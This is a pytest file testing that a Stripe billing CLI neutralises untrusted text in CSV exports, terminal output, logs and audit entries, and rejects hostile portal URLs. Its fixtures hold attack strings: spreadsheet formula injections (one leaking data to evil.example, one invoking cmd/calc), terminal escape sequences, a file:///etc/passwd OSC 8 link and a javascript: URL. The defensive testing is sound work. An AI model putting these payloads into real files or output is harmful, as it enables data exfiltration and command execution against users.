"""Text written by strangers — customer names, a server's error message — reaches
spreadsheets, terminals, the log and the audit only neutralised; a CSV export never writes
through a symbolic link nor leaves half a file."""

from __future__ import annotations

import csv
import json
import logging
from pathlib import Path
from typing import Any

import pytest
from pytest_httpserver import HTTPServer

from app.cli.output import write_csv
from app.export import Cell, Sheet
from app.logs import log_file, setup_logging
from tests.support.account import Account

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&C2,"Invoice")', "@SUM(1+1)*cmd|' /C calc'!A0"]
ESCAPES = "Mallory\x1b[2J\x1b]0;pwned\x07\r\nFORGED ROW\u202e"


@pytest.mark.emulator
def test_csv_exports_neutralise_formulas(account: Account, cli: Any, tmp_path: Path) -> None:
    for name in FORMULAS:
        account.customer(name, "+1@example.com", cards=[("4242424242424242", 1, 2000 + 99)])
    account.customer("-2+3", cards=[("5555555555554444", 12, 2026)])
    assert cli("sync").code == 0
    target = tmp_path / "expiring.csv"

    ran = cli("expiring", "--within-days", "36500", "--csv", str(target))

    assert ran.code == 0 and f"to {target.resolve()}" in ran.out
    with target.open(encoding="utf-8-sig", newline="") as written:
        rows = list(csv.DictReader(written))
    names = sorted(row["name"] for row in rows)
    assert names == sorted(["'-2+3", *("'" + f for f in FORMULAS)])
    assert all(row["email"] in ("'+1@example.com", "ada@example.com") for row in rows)
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def test_every_export_goes_through_one_neutralising_writer(tmp_path: Path, capsys: Any) -> None:
    """`expiring --csv` and `audit --csv` both write through write_csv: text that a
    spreadsheet would run gets an apostrophe; numbers and flags stay numbers and flags."""
    target = tmp_path / "out.csv"
    rows: list[tuple[Cell, ...]] = [
        ("=1+1", "+33 1 23", "-x", "@me", "\tcmd", "\rcmd", "plain", -5, True)
    ]

    write_csv(str(target), Sheet(tuple(f"c{i}" for i in range(9)), rows, "rows"))

    with target.open(encoding="utf-8-sig", newline="") as out:
        (written,) = list(csv.reader(out))[1:]
    assert written == [
        "'=1+1",
        "'+33 1 23",
        "'-x",
        "'@me",
        "'\tcmd",
        "'\rcmd",
        "plain",
        "-5",
        "true",
    ]
    assert f"Wrote 1 rows to {target.resolve()}." in capsys.readouterr().out


@pytest.mark.emulator
def test_terminal_output_holds_no_escape_sequences(account: Account, cli: Any) -> None:
    cus, _ = account.customer(
        ESCAPES, "eve@example.com\x1b[31m", cards=[("4242424242424242", 1, 2030)]
    )
    account.customer("Bob", "bob@example.com")
    assert cli("sync").code == 0

    for ran in (cli("customers"), cli("cards", cus), cli("customers", "--search", "Mallory")):
        assert ran.code == 0
        assert not any(ch in ran.out for ch in "\x1b\x07\r\u202e")
    listing = cli("customers").out.splitlines()
    assert len(listing) == 3  # the header, Mallory and Bob: no forged row
    assert "Mallory" in listing[2] or "Mallory" in listing[1]
    # JSON keeps the exact value (it is escaped by construction) for scripts.
    data = json.loads(cli("customers", "--json").out)
    assert ESCAPES in [c["name"] for c in data["customers"]]


@pytest.fixture
def synced(account: Account, cli: Any) -> None:
    account.customer("Ada", cards=[("4242424242424242", 1, 2030)])
    assert cli("sync").code == 0


@pytest.mark.emulator
@pytest.mark.usefixtures("synced")
def test_a_csv_export_never_writes_through_a_symlink(cli: Any, tmp_path: Path) -> None:
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(precious)

    ran = cli("expiring", "--within-days", "36500", "--csv", str(link))

    assert ran.code == 2 and "symbolic link" in ran.err and ran.err.count("\n") == 1
    assert precious.read_text(encoding="utf-8") == "keep me" and link.is_symlink()


@pytest.mark.emulator
@pytest.mark.usefixtures("synced")
def test_a_scheduled_export_replaces_its_file_whole(cli: Any, tmp_path: Path) -> None:
    exports = tmp_path / "exports"
    exports.mkdir()
    target = exports / "daily.csv"
    target.write_text("yesterday's export\n" * 1000, encoding="utf-8")

    assert cli("expiring", "--within-days", "36500", "--csv", str(target)).code == 0

    lines = target.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0].startswith("customer,name,email") and len(lines) == 2
    assert [p.name for p in exports.iterdir()] == ["daily.csv"]  # no temporary file left


def test_a_log_line_cannot_be_forged(home: Path) -> None:
    setup_logging()
    logging.getLogger("app.test").info("customer name %s", "Eve\n2026-01-01 INFO app forged")

    lines = log_file().read_text(encoding="utf-8").splitlines()
    assert [line for line in lines if "forged" in line] == [
        line for line in lines if "customer name Eve" in line
    ]


def test_a_server_echoing_secrets_leaves_them_nowhere(
    home: Path, cli: Any, httpserver: HTTPServer, monkeypatch: Any
) -> None:
    """A recorded Stripe-shaped refusal (the emulator cannot make one up) whose message
    echoes the key and a card number, with an escape sequence."""
    key = "sk_test_51EchoedBackToUs0001"
    monkeypatch.setenv("STRIPE_API_BASE", httpserver.url_for("").rstrip("/"))
    monkeypatch.setenv("STRIPE_API_KEY", key)
    echo = f"Bad request for {key} with card 4242 4242 4242 4242\x1b[2J" + "x" * 5000
    httpserver.expect_request("/v1/billing_portal/sessions").respond_with_json(
        {"error": {"message": echo, "type": "invalid_request_error"}}, status=400
    )

    ran = cli("portal", "cus_Someone1")

    assert ran.code == 6 and ran.err.count("\n") == 1 and len(ran.err) < 500
    (entry,) = json.loads(cli("audit", "--json").out)["entries"]
    assert entry["outcome"] == "refused"
    for text in (ran.err, entry["detail"], log_file().read_text(encoding="utf-8")):
        assert key not in text and "4242 4242 4242 4242" not in text and "\x1b" not in text


@pytest.mark.parametrize(
    "url",
    [
        "https://billing.stripe.com/p/session/x\x1b]0;owned\x07\x1b[2J",  # title, clear screen
        "\x1b]8;;file:///etc/passwd\x1b\\https://billing.stripe.com/p/session/x",  # OSC 8 link
        "file:///etc/passwd",
        "javascript:alert(1)",
        "http://billing.stripe.com/p/session/x",  # not https
        "https://billing.stripe.com.evil.example/p/session/x",
        "https://user@billing.stripe.com/p/session/x",
    ],
)
def test_a_portal_link_that_is_not_stripe_s_page_is_neither_printed_nor_opened(
    home: Path, cli: Any, httpserver: HTTPServer, monkeypatch: Any, url: str
) -> None:
    """A recorded portal session (the emulator has none) whose `url` is hostile."""
    monkeypatch.setenv("STRIPE_API_BASE", httpserver.url_for("").rstrip("/"))
    monkeypatch.setenv("STRIPE_API_KEY", "sk_test_" + "P" * 24)
    opened: list[str] = []
    monkeypatch.setattr("webbrowser.open", opened.append)
    httpserver.expect_request("/v1/billing_portal/sessions").respond_with_json(
        {"object": "billing_portal.session", "id": "bps_1", "url": url}
    )

    ran = cli("portal", "cus_Someone1", "--open")

    assert ran.code == 6 and "not an https:// address on Stripe's own site" in ran.err
    assert ran.out == "" and opened == []
    assert "\x1b" not in ran.err


def test_stripe_s_own_portal_link_is_printed_and_opened(
    home: Path, cli: Any, httpserver: HTTPServer, monkeypatch: Any
) -> None:
    monkeypatch.setenv("STRIPE_API_BASE", httpserver.url_for("").rstrip("/"))
    monkeypatch.setenv("STRIPE_API_KEY", "sk_test_" + "P" * 24)
    opened: list[str] = []
    monkeypatch.setattr("webbrowser.open", opened.append)
    url = "https://billing.stripe.com/p/session/test_YWNjdF8x"
    httpserver.expect_request("/v1/billing_portal/sessions").respond_with_json(
        {"object": "billing_portal.session", "id": "bps_1", "url": url}
    )

    ran = cli("portal", "cus_Someone1", "--open")

    assert ran.code == 0 and ran.out == url + "\n" and opened == [url]
